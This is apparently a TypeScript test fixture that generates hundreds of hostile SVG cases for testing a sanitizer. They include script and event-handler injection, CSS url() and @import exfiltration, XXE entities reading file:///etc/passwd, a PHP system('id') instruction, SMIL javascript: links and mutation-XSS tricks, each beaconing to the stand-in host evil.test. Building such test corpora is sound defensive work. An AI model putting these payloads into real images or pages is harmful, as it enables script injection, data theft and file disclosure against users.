/**
 * Our own hostile pictures, by attack class. Each calls out to `http://evil.test/<number>` when it runs or loads
 * something; hidden among them are forms that must be refused or come out harmless.
 */
interface HostileCase {
  name: string
  text: string
}

const open =
  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 100" width="100" height="100">'
const shape = '<rect x="10" y="10" width="80" height="80" fill="#0a0"/>'
const evil = 'http://evil.test/URL'
const run = `new Image().src='${evil}?run'`

const inside = (markup: string) => `${open}${shape}${markup}</svg>`
const rootWith = (attributes: string) => `${open.slice(0, -1)} ${attributes}>${shape}</svg>`
const styled = (css: string) => inside(`<style>${css}</style><rect class="a" id="a" width="50" height="50"/>`)

const handlers = (
  'onload onunload onabort onerror onresize onscroll onzoom onfocus onblur onfocusin onfocusout onactivate onclick ' +
  'ondblclick onmousedown onmouseup onmouseover onmousemove onmouseout onmouseenter onmouseleave onmousewheel onwheel ' +
  'onkeydown onkeypress onkeyup oninput onchange oninvalid onsubmit onreset onselect oncut oncopy onpaste ondrag ' +
  'ondragstart ondragend ondragenter ondragover ondragleave ondrop onbegin onend onrepeat onanimationstart ' +
  'onanimationend onanimationiteration ontransitionend ontransitionrun onpointerdown onpointerup onpointermove ' +
  'onpointerover onpointerenter ongotpointercapture ontouchstart ontouchend ontouchmove onpageshow onpagehide ' +
  'onhashchange onmessage onpopstate onstorage onbeforeunload oncontextmenu onshow ontoggle onauxclick ' +
  'onsecuritypolicyviolation onslotchange onformdata oncancel onclose oncuechange onplay onbeforeinput ONLOAD OnLoad'
).split(' ')

const scripts = {
  plain: inside(`<script>${run}</script>`),
  cdata: inside(`<script><![CDATA[${run}]]></script>`),
  href: inside(`<script href="${evil}"/>`),
  xlink: inside(`<script xlink:href="${evil}"/>`),
  'data href': inside(`<script href="data:text/javascript,${run}"/>`),
  module: inside(`<script type="module">import '${evil}'</script>`),
  ecmascript: inside(`<script type="text/ecmascript">${run}</script>`),
  'in defs': inside(`<defs><script>${run}</script></defs>`),
  'in nested svg': inside(`<svg><g><svg><script>${run}</script></svg></g></svg>`),
  'in title': inside(`<title><script>${run}</script></title>`),
  'in desc': inside(`<desc><script>${run}</script></desc>`),
  'in metadata': inside(`<metadata><script>${run}</script></metadata>`),
  'in text': inside(`<text>a<script>${run}</script></text>`),
  'in a symbol': inside(`<symbol id="s"><script>${run}</script></symbol><use href="#s"/>`),
  'in a link': inside(`<a href="#x"><script>${run}</script></a>`),
  'in a switch': inside(`<switch><script>${run}</script></switch>`),
  'in an unknown element': inside(`<blob><script>${run}</script></blob>`),
  'in a foreign element': inside(`<x:y xmlns:x="urn:x"><script>${run}</script></x:y>`),
  'by prefix': `<s:svg xmlns:s="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><s:script>${run}</s:script></s:svg>`,
  'in XHTML': inside(`<script xmlns="http://www.w3.org/1999/xhtml">${run}</script>`),
  'in XHTML by prefix': inside(`<h:script xmlns:h="http://www.w3.org/1999/xhtml">${run}</h:script>`),
  'before the picture': `<script>${run}</script>${inside('')}`,
  'after the picture': `${inside('')}<script>${run}</script>`,
  handler: inside(`<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${run}</handler>`),
  listener: inside(`<listener event="load" handler="#a"/>`),
  'with a namespaced handler': rootWith(`xmlns:x="urn:x" x:onload="${run}"`),
  'with a spaced handler': rootWith(`onload = "${run}"`),
  'with an entity in the handler': rootWith(`onload="&#110;ew Image().src='${evil}'"`),
}

const html = {
  body: `<body xmlns="http://www.w3.org/1999/xhtml" onload="${run}"/>`,
  img: `<img xmlns="http://www.w3.org/1999/xhtml" src="${evil}" onerror="${run}"/>`,
  iframe: `<iframe xmlns="http://www.w3.org/1999/xhtml" src="${evil}"/>`,
  srcdoc: `<iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;img src='${evil}'&gt;"/>`,
  object: `<object xmlns="http://www.w3.org/1999/xhtml" data="${evil}"/>`,
  embed: `<embed xmlns="http://www.w3.org/1999/xhtml" src="${evil}"/>`,
  link: `<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="${evil}"/>`,
  meta: `<meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=${evil}"/>`,
  style: `<style xmlns="http://www.w3.org/1999/xhtml">@import '${evil}';</style>`,
  video: `<video xmlns="http://www.w3.org/1999/xhtml" src="${evil}" poster="${evil}"/>`,
  audio: `<audio xmlns="http://www.w3.org/1999/xhtml" src="${evil}" autoplay="1"/>`,
  form: `<form xmlns="http://www.w3.org/1999/xhtml" action="${evil}"><button autofocus="1" onfocus="${run}"/></form>`,
  base: `<base xmlns="http://www.w3.org/1999/xhtml" href="${evil}/"/>`,
  details: `<details xmlns="http://www.w3.org/1999/xhtml" open="1" ontoggle="${run}"/>`,
}

const referring = (
  'image use feImage a script linearGradient radialGradient pattern filter textPath tref cursor mpath animate ' +
  'animateMotion set mask clipPath font-face-uri color-profile glyphRef altGlyph marker symbol style'
).split(' ')

const addresses = {
  http: evil,
  'no scheme': '//evil.test/URL',
  spaced: ` \n${evil}`,
  javascript: `javascript:${run}`,
  'split javascript': `java&#10;script:${run}`,
  'data SVG': `data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='${run.replaceAll("'", '%22')}'/%3E#x`,
  'data HTML': `data:text/html,%3Cscript%3E${run.replaceAll("'", '%22')}%3C/script%3E`,
  'a file': 'file:///etc/passwd#x',
  'a fragment elsewhere': `${evil}#a`,
}

const urlAttributes =
  'fill stroke filter mask clip-path marker marker-start marker-mid marker-end cursor color-profile background'.split(
    ' ',
  )
const urlForms = {
  plain: `url(${evil}#a)`,
  quoted: `url('${evil}#a')`,
  spaced: `url(  ${evil}#a  )`,
  capital: `URL(${evil}#a)`,
  'with fallback': `url(${evil}#a) red`,
  'after a good one': `url(#ok) url(${evil}#a)`,
  escaped: `\\75rl(${evil}#a)`,
  'escaped with a space': `\\000075 rl(${evil}#a)`,
  commented: `url/**/(${evil}#a)`,
  'image()': `image('${evil}')`,
  'image-set()': `image-set('${evil}' 1x)`,
  'src()': `src('${evil}')`,
  'cross-fade()': `-webkit-cross-fade(url(${evil}),url(${evil}),50%)`,
  'by entity': `u&#114;l(${evil}#a)`,
}

const sheets = {
  '@import': `@import '${evil}';`,
  '@import url': `@import url(${evil});`,
  'escaped @import': `@\\69mport '${evil}';`,
  '@import after a comment': `/* x */@import/**/"${evil}";`,
  '@import in @media': `@media all{@import '${evil}';}`,
  '@font-face': `@font-face{font-family:x;src:url(${evil})}.a{font-family:x}text{font-family:x}`,
  '@namespace': `@namespace x url(${evil});`,
  '@media': `@media screen{.a{fill:url(${evil}#a)}}`,
  '@supports': `@supports (fill:red){.a{background:url(${evil})}}`,
  '@keyframes': `@keyframes k{from{filter:url(${evil}#a)}}.a{animation:k 1s}`,
  '@layer': `@layer x{.a{mask:url(${evil}#m)}}`,
  '@document': `@document url(${evil}){.a{fill:red}}`,
  '@property': `@property --x{syntax:'*';inherits:false;initial-value:url(${evil})}.a{mask-image:var(--x)}`,
  'a variable': `:root{--x:url(${evil})}.a{mask-image:var(--x);background:var(--x)}`,
  'a cursor': `svg,.a{cursor:url(${evil}),auto}`,
  'a background': `svg{background:url(${evil})}`,
  'a background image': `svg{background-image:url(${evil})}`,
  'a border image': `svg{border-image:url(${evil}) 30}`,
  'a list style': `svg{list-style:url(${evil})}`,
  content: `svg::before{content:url(${evil})}`,
  'a mask image': `.a{-webkit-mask-image:url(${evil});mask-image:url(${evil})}`,
  'a shape outside': `svg{shape-outside:url(${evil})}`,
  'an offset path': `.a{offset-path:url(${evil}#p)}`,
  'a d from outside': `.a{d:url(${evil})}`,
  'a data leak': `[id^=a]{fill:url(${evil}#leak)}`,
  'a leak by :has': `svg:has([id=a]){background:url(${evil})}`,
  expression: `.a{width:expression(${run})}`,
  behavior: `.a{behavior:url(${evil})}`,
  '-moz-binding': `.a{-moz-binding:url(${evil}#x)}`,
  'an escape': `.a{fill:\\75 \\72 \\6c (${evil}#a)}`,
  'a broken rule': `.a{fill:red;;{}}}.a{background:url(${evil})}`,
  'a broken string': `.a{font-family:'x\n;fill:url(${evil}#a)}svg{background:url(${evil})}`,
  'an end tag in CDATA': `<![CDATA[</style><script>${run}</script>]]>`,
  'an image in CDATA': `<![CDATA[</style><img src="${evil}" onerror="${run}">]]>`,
  'an entity tag': `&lt;/style&gt;&lt;img src=x onerror="${run}"&gt;`,
}

const documents = {
  'external entity': `<!DOCTYPE svg [<!ENTITY x SYSTEM "${evil}">]>${inside('<text>&x;</text>')}`,
  'file entity': `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${inside('<text>&x;</text>')}`,
  'parameter entity': `<!DOCTYPE svg [<!ENTITY % p SYSTEM "${evil}"> %p;]>${inside('')}`,
  'external DTD': `<!DOCTYPE svg SYSTEM "${evil}">${inside('')}`,
  'entity that is a script': `<!DOCTYPE svg [<!ENTITY x "<script>${run.replaceAll("'", '&#39;')}</script>">]>${inside('&x;')}`,
  'entity as a namespace': `<!DOCTYPE svg [<!ENTITY h "http://www.w3.org/1999/xhtml">]>${inside(`<b:script xmlns:b="&h;">${run}</b:script>`)}`,
  'attribute default': `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "${run}">]>${inside('')}`,
  'a notation': `<!DOCTYPE svg [<!NOTATION n SYSTEM "${evil}">]>${inside('')}`,
  'a stylesheet instruction': `<?xml-stylesheet href="${evil}"?>${inside('')}`,
  'an XSLT instruction': `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${evil}"?>${inside('')}`,
  'an inner instruction': inside(`<?xml-stylesheet href="${evil}"?>`),
  'a PHP instruction': inside('<?php system("id") ?>'),
  XInclude: inside(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${evil}"/>`),
  XBL: inside(`<b:bindings xmlns:b="http://www.mozilla.org/xbl"><b:binding id="x"/></b:bindings>`),
  XSLT: inside(
    `<x:stylesheet xmlns:x="http://www.w3.org/1999/XSL/Transform" version="1.0"><x:import href="${evil}"/></x:stylesheet>`,
  ),
  'an XHTML root': `<html xmlns="http://www.w3.org/1999/xhtml"><body onload="${run}"><svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/></body></html>`,
  'a false namespace': `<svg xmlns="http://www.w3.org/1999/xhtml" onload="${run}"><img src="${evil}"/></svg>`,
  'a rebound prefix': `<svg xmlns="http://www.w3.org/2000/svg" xmlns:svg="http://www.w3.org/1999/xhtml" viewBox="0 0 9 9"><svg:img src="${evil}" onerror="${run}"/></svg>`,
  'a rebound default': inside(`<g xmlns="http://www.w3.org/1999/xhtml"><img src="${evil}"/></g>`),
  'an unbound default': inside(`<g xmlns=""><img src="${evil}"/></g>`),
  MathML: inside(
    `<math xmlns="http://www.w3.org/1998/Math/MathML"><mtext><h:img xmlns:h="http://www.w3.org/1999/xhtml" src="${evil}"/></mtext></math>`,
  ),
  'an actuated link': inside(
    `<a xlink:href="${evil}" xlink:actuate="onLoad" xlink:show="embed"><rect width="9" height="9"/></a>`,
  ),
  'a link ping': inside(`<a href="#" ping="${evil}"><rect width="100" height="100"/></a>`),
  'an xml:base': rootWith(`xml:base="${evil}/"`),
  'a base profile': rootWith(`contentScriptType="text/javascript" zoomAndPan="${evil}"`),
}

const smil = ['set', 'animate'].flatMap((element) =>
  ['href', 'xlink:href', 'onmouseover', 'onload', 'onclick'].map((attribute): [string, string] => [
    `${element} of ${attribute}`,
    inside(
      `<a href="#"><${element} attributeName="${attribute}" begin="0s" to="javascript:${run}" values="javascript:${run};javascript:${run}"/><rect width="100" height="100"/></a>`,
    ),
  ]),
)
const animations = {
  ...Object.fromEntries(smil),
  'a begin handler': inside(`<animate attributeName="x" dur="1s" begin="0s" onbegin="${run}"/>`),
  'an image address': inside(`<image width="9" height="9"><set attributeName="href" to="${evil}"/></image>`),
  'a fill address': inside(
    `<rect width="9" height="9"><animate attributeName="fill" to="url(${evil}#a)" dur="1s" fill="freeze"/></rect>`,
  ),
  'a filter address': inside(`<rect width="9" height="9"><set attributeName="filter" to="url(${evil}#a)"/></rect>`),
  'a style': inside(`<rect width="9" height="9"><set attributeName="style" to="mask:url(${evil}#a)"/></rect>`),
  'a use address': inside(`<use><set attributeName="href" to="${evil}#a"/></use>`),
}

const reparsed = {
  'a title in CDATA': inside(`<title><![CDATA[<img src="${evil}" onerror="${run}">]]></title>`),
  'a desc by entity': inside(`<desc>&lt;img src="${evil}" onerror="${run}"&gt;</desc>`),
  'text by entity': inside(`<text>&lt;img src="${evil}"&gt;</text>`),
  'text in CDATA': inside(`<text><![CDATA[<img src="${evil}">]]></text>`),
  'a comment that ends in HTML': inside(`<!-- --!><img src="${evil}"> -->`),
  'a comment in a style': inside(`<style><!--</style><img title="--><img src=${evil}>"></style>`),
  'an id with markup': inside(`<g id="&quot;&gt;&lt;img src=${evil}&gt;"/>`),
  'an id with a handler': inside(`<g id="x&quot; onload=&quot;${run}"/>`),
  'an id with a handler, used': inside(
    `<rect id="x' onload='${run}" width="9" height="9"/><use href="#x' onload='${run}"/>`,
  ),
  'a class with markup': inside(`<g class="&quot;&gt;&lt;img src=${evil}&gt;"/>`),
  'a fill with markup': inside(`<rect fill="red&quot;&gt;&lt;img src=${evil}&gt;" width="9" height="9"/>`),
  'a path with markup': inside(`<path d="M0 0&quot;&gt;&lt;img src=${evil}&gt;"/>`),
  'a font with markup': inside(`<text font-family="x&quot;&gt;&lt;img src=${evil}&gt;">a</text>`),
  'a view box with markup': `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9&quot;&gt;&lt;img src=${evil}&gt;"/>`,
  'a name with markup': inside(`<filter id="f"><feOffset result="x&quot;&gt;&lt;img src=${evil}&gt;"/></filter>`),
  'a part with markup': inside(`<g data-part="x&quot;&gt;&lt;img src=${evil}&gt;"/>`),
  'a backtick': inside(`<g id="\`\`onload=${run}"/>`),
  'a paragraph and a style': inside(
    `<p xmlns="http://www.w3.org/1999/xhtml"><style><g title="</style><img src='${evil}'>"/></style></p>`,
  ),
  'a noscript': inside(`<noscript><g title="</noscript><img src='${evil}'>"/></noscript>`),
  'a textarea': inside(`<textarea><g title="</textarea><img src='${evil}'>"/></textarea>`),
  'a table': inside(
    `<math xmlns="http://www.w3.org/1998/Math/MathML"><mglyph><style><img src="${evil}"/></style></mglyph></math>`,
  ),
  'a NUL in a tag': inside(`<scr\u0000ipt>${run}</scr\u0000ipt>`),
  'UTF-7': inside(`<text>+ADw-script+AD4-${run}</text>`),
  'a bidi id': inside(`<g id="\u202egnp.exe"/>`),
  'a declared encoding': `<?xml version="1.0" encoding="utf-7"?>${inside('')}`,
  'a mark': `\ufeff${rootWith(`onload="${run}"`)}`,
}

const named = (kind: string, cases: Record<string, string>): HostileCase[] =>
  Object.entries(cases).map(([name, text]) => ({ name: `${kind}: ${name}`, text }))

const all: HostileCase[] = [
  ...named('script', scripts),
  ...handlers.flatMap((name) => [
    { name: `handler: ${name} on the root`, text: rootWith(`${name}="${run}"`) },
    {
      name: `handler: ${name} on a shape`,
      text: inside(`<rect ${name}="${run}" tabindex="0" width="100" height="100"/>`),
    },
  ]),
  ...named(
    'foreignObject',
    Object.fromEntries(
      Object.entries(html).map(([name, markup]) => [
        name,
        inside(`<foreignObject width="90" height="90">${markup}</foreignObject>`),
      ]),
    ),
  ),
  ...named('HTML', Object.fromEntries(Object.entries(html).map(([name, markup]) => [name, inside(markup)]))),
  ...referring.flatMap((element) => [
    { name: `reference: href of ${element}`, text: inside(`<${element} href="${evil}#x" width="9" height="9"/>`) },
    {
      name: `reference: xlink:href of ${element}`,
      text: inside(`<${element} xlink:href="${evil}#x" width="9" height="9"/>`),
    },
  ]),
  ...Object.entries(addresses).flatMap(([name, address]) =>
    ['image', 'use', 'a', 'feImage'].map((element) => ({
      name: `address: ${name} in ${element}`,
      text: inside(
        `<${element} xlink:href="${address}" width="90" height="90"><rect width="9" height="9"/></${element}>`,
      ),
    })),
  ),
  ...urlAttributes.flatMap((attribute) => [
    { name: `paint: ${attribute}`, text: inside(`<path d="M0 0L9 9" ${attribute}="url(${evil}#a)"/>`) },
    {
      name: `paint: ${attribute} in a style`,
      text: inside(`<path d="M0 0L9 9" style="${attribute}:url(${evil}#a)"/>`),
    },
    { name: `paint: ${attribute} in a sheet`, text: styled(`.a{${attribute}:url(${evil}#a)}`) },
  ]),
  ...Object.entries(urlForms).flatMap(([name, form]) => [
    { name: `url ${name} in fill`, text: inside(`<rect width="9" height="9" fill="${form}"/>`) },
    {
      name: `url ${name} in a style`,
      text: inside(`<rect width="9" height="9" style="mask:${form};background:${form}"/>`),
    },
    { name: `url ${name} in a sheet`, text: styled(`.a{filter:${form}} svg{background-image:${form}}`) },
  ]),
  ...named('sheet', Object.fromEntries(Object.entries(sheets).map(([name, css]) => [name, styled(css)]))),
  ...named('document', documents),
  ...named('animation', animations),
  ...named('reparse', reparsed),
]

/** Every case with its own number in its addresses, so that a hit tells which it was. */
export const hostileCases: HostileCase[] = all.map(({ name, text }, at) => ({
  name,
  text: text.replaceAll('evil.test/URL', `evil.test/${at}`),
}))
